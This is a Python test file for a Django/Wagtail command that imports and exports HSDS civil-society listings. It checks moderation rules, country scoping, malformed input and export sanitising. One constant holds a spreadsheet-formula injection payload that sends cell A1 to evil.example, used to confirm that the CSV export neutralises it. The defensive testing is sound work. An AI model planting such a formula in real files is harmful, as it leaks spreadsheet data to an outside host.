"""`import_hsds` changes only the CSO listings of one country, through the approval workflow unless
`--publish` (coordinators only, and it says it bypasses moderation); bad files change nothing."""

import csv
import json
from io import StringIO
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from wagtail.models import Page, WorkflowState

from cso_directory.actions import add_membership
from cso_directory.models import CountryDirectoryPage, OrganisationPage, ServicePage
from portal.foundation.roles import Role
from tests.factories import make_organisation, make_service

pytestmark = pytest.mark.django_db

NEW_ID = "7c2a3f1e-1111-4a5b-9c1d-000000000001"
SERVICE_ID = "7c2a3f1e-2222-4a5b-9c1d-000000000002"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def import_hsds(path: Path, *args: str) -> str:
    out = StringIO()
    call_command("import_hsds", str(path), *args, stdout=out)
    return out.getvalue()


def organisation_record(hsds_id: str, name: str = "Steppe Support Centre", **fields) -> dict:
    return {"id": hsds_id, "name": name, "description": f"{name} helps people.", **fields}


def write(directory: Path, name: str, records) -> Path:
    path = directory / name
    path.write_text(json.dumps(records), encoding="utf-8")
    return path


def coordinator(country: str) -> User:
    user = User.objects.create_user(f"coordinator-{country.lower()}")
    add_membership(
        user,
        make_organisation(country, title=f"Coordination {country}", kind="coordination"),
        Role.NATIONAL_COORDINATOR,
    )
    return user


def page_rows() -> int:
    return Page.objects.count()


@pytest.mark.parametrize("kind", ["prison", "probation"])
def test_a_record_naming_a_prison_or_probation_office_refuses_the_import(tmp_path, kind):
    office = make_organisation("KZ", title="Almaty colony", kind=kind)
    path = write(tmp_path, "organizations.json", [organisation_record(str(office.hsds_id), "Taken over")])
    pages = page_rows()

    with pytest.raises(CommandError) as refused:
        import_hsds(path, "--country", "KZ")

    assert f"organizations.json, record {office.hsds_id} (organization)" in str(refused.value)
    assert "not CSO listings of KZ" in str(refused.value)
    office.refresh_from_db()
    assert office.title == "Almaty colony"
    assert page_rows() == pages


def test_a_detail_linked_to_a_prison_or_another_countrys_listing_refuses_the_import(tmp_path):
    prison = make_organisation("KZ", title="Almaty colony", kind="prison")
    iraqi_cso = make_organisation("IQ", title="Erbil Support")
    phones = [
        {"id": "7c2a3f1e-3333-4a5b-9c1d-000000000003", "organization_id": str(prison.hsds_id), "number": "1"},
        {"id": "7c2a3f1e-4444-4a5b-9c1d-000000000004", "organization_id": str(iraqi_cso.hsds_id), "number": "2"},
    ]
    path = write(tmp_path, "phones.json", phones)

    with pytest.raises(CommandError) as refused:
        import_hsds(path, "--country", "KZ")

    assert "2 records would change listings" in str(refused.value)
    assert not prison.phones.exists() and not iraqi_cso.phones.exists()


def test_without_publish_a_new_organisation_is_a_draft_waiting_for_the_countrys_approval(tmp_path):
    path = write(tmp_path, "organizations.json", [organisation_record(NEW_ID)])

    output = import_hsds(path, "--country", "KZ")

    organisation = OrganisationPage.objects.get(hsds_id=NEW_ID)
    assert not organisation.live
    state = WorkflowState.objects.get(object_id=str(organisation.pk), status=WorkflowState.STATUS_IN_PROGRESS)
    assert state.workflow == CountryDirectoryPage.objects.get(country="KZ").get_workflow()
    assert "Submitted for approval by the national coordinators of KZ" in output


def test_without_publish_a_change_waits_in_a_revision_and_the_live_page_stays(tmp_path):
    cso = make_organisation("KZ", title="Bright Futures")
    path = write(tmp_path, "organizations.json", [organisation_record(str(cso.hsds_id), "Renamed by the import")])

    import_hsds(path, "--country", "KZ")

    cso.refresh_from_db()
    assert cso.live and cso.title == "Bright Futures"
    assert cso.get_latest_revision_as_object().title == "Renamed by the import"
    assert cso.workflow_in_progress


def test_without_publish_a_detail_of_a_live_listing_is_refused_and_with_publish_it_is_written(tmp_path):
    cso = make_organisation("KZ", title="Bright Futures")
    phone = {"id": "7c2a3f1e-5555-4a5b-9c1d-000000000005", "organization_id": str(cso.hsds_id), "number": "+7 700"}
    path = write(tmp_path, "phones.json", [phone])

    with pytest.raises(CommandError) as refused:
        import_hsds(path, "--country", "KZ")

    assert "changes a detail of a live listing" in str(refused.value) and "--publish" in str(refused.value)
    assert not cso.phones.exists()

    import_hsds(path, "--country", "KZ", "--publish", "--as", coordinator("KZ").username)
    assert list(cso.phones.values_list("number", flat=True)) == ["+7 700"]
    import_hsds(path, "--country", "KZ")  # the same detail again changes nothing, so needs no approval


def test_publish_needs_a_coordinator_of_the_country_and_says_it_bypasses_moderation(tmp_path):
    path = write(tmp_path, "organizations.json", [organisation_record(NEW_ID)])
    coordinator("KZ")
    coordinator("IQ")

    for refused_args in ([], ["--as", "coordinator-iq"]):
        with pytest.raises(CommandError) as refused:
            import_hsds(path, "--country", "KZ", "--publish", *refused_args)
        assert "bypasses moderation" in str(refused.value)
        assert not OrganisationPage.objects.filter(hsds_id=NEW_ID).exists()

    output = import_hsds(path, "--country", "KZ", "--publish", "--as", "coordinator-kz")

    assert "bypassing moderation" in output
    assert OrganisationPage.objects.get(hsds_id=NEW_ID).live
    parser = call_command.__globals__["load_command_class"]("cso_directory", "import_hsds").create_parser("", "")
    assert "BYPASSING MODERATION" in parser.format_help().replace("\n", " ").replace("  ", " ")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
        ('[{"id": "', "not valid JSON"),
        ('["a string", 3]', "expected a list of organization objects"),
    ],
)
def test_a_bad_file_is_a_clear_error_and_writes_nothing(tmp_path, content, message):
    (tmp_path / "organizations.json").write_text(content, encoding="utf-8")
    pages = page_rows()

    with pytest.raises(CommandError, match=message):
        import_hsds(tmp_path / "organizations.json", "--country", "KZ")

    assert page_rows() == pages


@pytest.mark.parametrize(
    ("record", "field"),
    [
        (organisation_record(NEW_ID, description="x" * 2001), "description"),
        (organisation_record(NEW_ID, name="Steppe\u202e Centre"), "name"),
        (organisation_record(NEW_ID, description="Null\x00byte"), "description"),
    ],
)
def test_imported_text_meets_the_limits_and_rules_the_pages_enforce(tmp_path, record, field):
    path = write(tmp_path, "organizations.json", [record])

    with pytest.raises(CommandError) as refused:
        import_hsds(path, "--country", "KZ")

    assert f"record {NEW_ID}: {field}: " in str(refused.value)
    assert not OrganisationPage.objects.filter(hsds_id=NEW_ID).exists()


def test_a_name_starting_like_a_formula_is_exported_as_text_and_imported_back_as_it_was(tmp_path):
    service = make_service(make_organisation("KZ", title="Bright Futures"), title=FORMULA)
    call_command("export_hsds", str(tmp_path), stdout=StringIO())

    with (tmp_path / "csv" / "services.csv").open(encoding="utf-8", newline="") as stream:
        names = [row["name"] for row in csv.DictReader(stream)]
    assert names == [f"'{FORMULA}"]

    ServicePage.objects.filter(pk=service.pk).update(title="Changed")
    User.objects.create_superuser("importer")
    import_hsds(tmp_path / "csv", "--country", "KZ", "--publish", "--as", "importer")
    assert ServicePage.objects.get(pk=service.pk).title == FORMULA
